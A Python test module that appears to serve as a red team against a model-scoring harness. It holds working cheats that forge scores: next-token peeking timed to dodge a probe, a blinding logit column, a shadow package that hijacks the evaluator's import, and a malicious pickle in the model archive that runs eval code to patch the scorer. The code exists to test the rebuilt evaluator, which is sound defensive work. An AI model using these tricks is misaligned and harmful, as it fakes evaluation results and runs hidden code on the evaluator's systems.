"""The evaluator's red team: cheats aimed at how the harness scores the submitted model.

Like cheats.py, each function takes the workspace's train.py text and returns the cheating version, and the
code it adds prints `CHEAT ...` lines. Each one got a forged score kept before the evaluator was rebuilt:

  count_calls                 a buffer counts forward calls: peek while scoring, causal for the probe after
  peek_between_old_cuts       +30 on the next token's logit everywhere but the old probe's three cut positions
  peek_with_blinding_column   the same peek everywhere, plus a logit column of 1e9 that hid it from a probe
                              measuring changes relative to the largest logit
  shadow_harness              a package named `autoresearch` in the run folder (a link to an edited copy):
                              the evaluator, started there with `python -m`, imported it
  pickled_weight              a hand-written model.pt2 whose smallest weight is a pickle: torch.export.load
                              unpickled it (running its code) before any check

`poison` is the archive rewrite of the last one, kept as a function so the tests can use it directly too.
"""

from __future__ import annotations

import inspect
from pathlib import Path

from cheats import SUBMIT, _before, _replace

PAYLOAD_MARKER = "payload-ran"        # written by the pickled weight's code if it ever runs
SHADOW_MARKER = "shadow-imported"     # written by the shadow harness if the evaluator ever imports it


def count_calls(text: str) -> str:
    """A stateful model: the first 8 calls (the cpu profile's scored batches) peek, later ones do not."""
    return _before(text, SUBMIT, '''
class _CountCalls(nn.Module):
    def __init__(self, inner):
        super().__init__()
        self.inner = inner
        self.register_buffer("calls", torch.zeros((), dtype=torch.long))

    def forward(self, idx):
        logits = self.inner(idx)
        self.calls.add_(1)
        scoring = (self.calls <= 8).float()
        upcoming = torch.roll(idx, -1, dims=1)
        return logits + scoring * 30.0 * F.one_hot(upcoming, logits.size(-1)).float()


model = _CountCalls(model)
print("CHEAT: the model counts its calls")
''')


def peek_between_old_cuts(text: str) -> str:
    """Peek at the next token at every position except int(T * 0.25), int(T * 0.5) and int(T * 0.75)."""
    return _before(text, SUBMIT, '''
class _PeekBetweenCuts(nn.Module):
    def __init__(self, inner, T):
        super().__init__()
        self.inner = inner
        mask = torch.ones(T)
        for frac in (0.25, 0.5, 0.75):
            mask[int(T * frac)] = 0.0
        self.register_buffer("mask", mask.view(1, T, 1), persistent=False)

    def forward(self, idx):
        logits = self.inner(idx)
        upcoming = torch.roll(idx, -1, dims=1)
        return logits + 30.0 * self.mask * F.one_hot(upcoming, logits.size(-1)).float()


model = _PeekBetweenCuts(model, MAX_SEQ_LEN)
print("CHEAT: the model peeks everywhere but the old probe's cuts")
''')


def peek_with_blinding_column(text: str) -> str:
    """Peek at the next token everywhere and append a logit column of 1e9 beyond the vocabulary."""
    return _before(text, SUBMIT, '''
class _PeekBlind(nn.Module):
    def __init__(self, inner):
        super().__init__()
        self.inner = inner

    def forward(self, idx):
        logits = self.inner(idx)
        upcoming = torch.roll(idx, -1, dims=1)
        logits = logits + 30.0 * F.one_hot(upcoming, logits.size(-1)).float()
        return torch.cat([logits, torch.full_like(logits[..., :1], 1e9)], dim=-1)


model = _PeekBlind(model)
print("CHEAT: the model peeks and adds a blinding column")
''')


SHADOW_HOOK = '''

import pathlib as _shadow_pl
_shadow_pl.Path({marker!r}).write_text("the shadow harness was imported")
_true_bits_per_byte = bits_per_byte


def bits_per_byte(total_nats, total_bytes):
    return 0.01 * _true_bits_per_byte(total_nats, total_bytes)
'''


def plant_shadow(folder: Path, marker: Path) -> None:
    """Put a link named `autoresearch` in `folder` to a copy of the installed package whose evaluator
    writes `marker` when imported and reports 1/100 of the true bits per byte."""
    import shutil

    import autoresearch

    copy = folder / ".shadow" / "autoresearch"
    shutil.copytree(Path(autoresearch.__file__).parent, copy, ignore=shutil.ignore_patterns("__pycache__", "corpus"))
    evaluator = copy / "harness" / "evaluate.py"
    entry = '\nif __name__ == "__main__":'  # the hook goes before main() runs
    source = evaluator.read_text()
    assert entry in source, "evaluate.py no longer ends with a __main__ block: update the cheat"
    evaluator.write_text(source.replace(entry, SHADOW_HOOK.format(marker=str(marker)) + entry))
    (folder / "autoresearch").symlink_to(copy, target_is_directory=True)


def shadow_harness(text: str) -> str:
    """Plant a shadow `autoresearch` package in the run folder, then submit honestly."""
    return _before(text, SUBMIT, f'''
from pathlib import Path
{inspect.getsource(plant_shadow)}
SHADOW_HOOK = {SHADOW_HOOK!r}
_run = Path(os.environ["AUTORESEARCH_RUN_DIR"])
plant_shadow(_run, _run / {SHADOW_MARKER!r})
print("CHEAT: planted a shadow harness in the run folder")
''')


def poison(program: Path, marker: Path) -> None:
    """Rewrite the archive at `program` so that its smallest weight is a pickle. Unpickling it writes
    `marker`, makes the harness's bits per byte 100 times smaller and returns the real weight, so the
    model still works. (Weights are assumed fp32, as on the CPU path.)"""
    import io
    import json
    import math
    import zipfile

    import torch

    program, marker = Path(program), Path(marker)
    with zipfile.ZipFile(program) as src:
        files = {info.filename: src.read(info.filename) for info in src.infolist()}
    config_name = next(name for name in files if name.endswith("/data/weights/model_weights_config.json"))
    root = config_name.split("/")[0]
    config = json.loads(files[config_name])

    def sizes(entry):
        return [s["as_int"] for s in entry["tensor_meta"]["sizes"]]

    fqn, entry = min(config["config"].items(), key=lambda item: math.prod(sizes(item[1])))
    weight_file = f"{root}/data/weights/{entry['path_name']}"
    values = torch.frombuffer(bytearray(files[weight_file]), dtype=torch.float32)[:math.prod(sizes(entry))]
    code = (f"(__import__('pathlib').Path({str(marker)!r}).write_text('ran'), "
            "setattr(__import__('autoresearch.harness.evaluate', fromlist=['_']), 'bits_per_byte', "
            "lambda n, b: 0.01 * n / (0.6931471805599453 * b)), "
            f"__import__('torch').nn.Parameter(__import__('torch').tensor({values.tolist()!r}).reshape({sizes(entry)!r})))[-1]")

    class Payload:
        def __reduce__(self):
            return eval, (code,)

    buffer = io.BytesIO()
    torch.save(Payload(), buffer)
    entry["use_pickle"] = True
    files[config_name] = json.dumps(config).encode()
    files[weight_file] = buffer.getvalue()
    with zipfile.ZipFile(program, "w", zipfile.ZIP_STORED) as out:
        for name, data in files.items():
            out.writestr(name, data)


def pickled_weight(text: str) -> str:
    """Skip submit(): write the submit marker, export, poison the archive, move it into place."""
    return _replace(text, SUBMIT, f'''
import tempfile
from pathlib import Path
from autoresearch.harness import context as _context
from autoresearch.harness.protocol import PROGRAM_FILE as _PROGRAM, RUN_DIR_ENV as _RUN, SUBMIT_MARKER as _MARK
from autoresearch.harness.submission import export_model as _export
{inspect.getsource(poison)}
_run = Path(os.environ[_RUN])
(_run / _MARK).write_text(str(time.time()))
_program = _export(model, _context.settings(), Path(tempfile.mkdtemp(dir=_run)))
poison(_program, _run / {PAYLOAD_MARKER!r})
_program.replace(_run / _PROGRAM)
print("CHEAT: submitted a model.pt2 with a pickled weight")
result = {{"val_bpb": None}}
''')
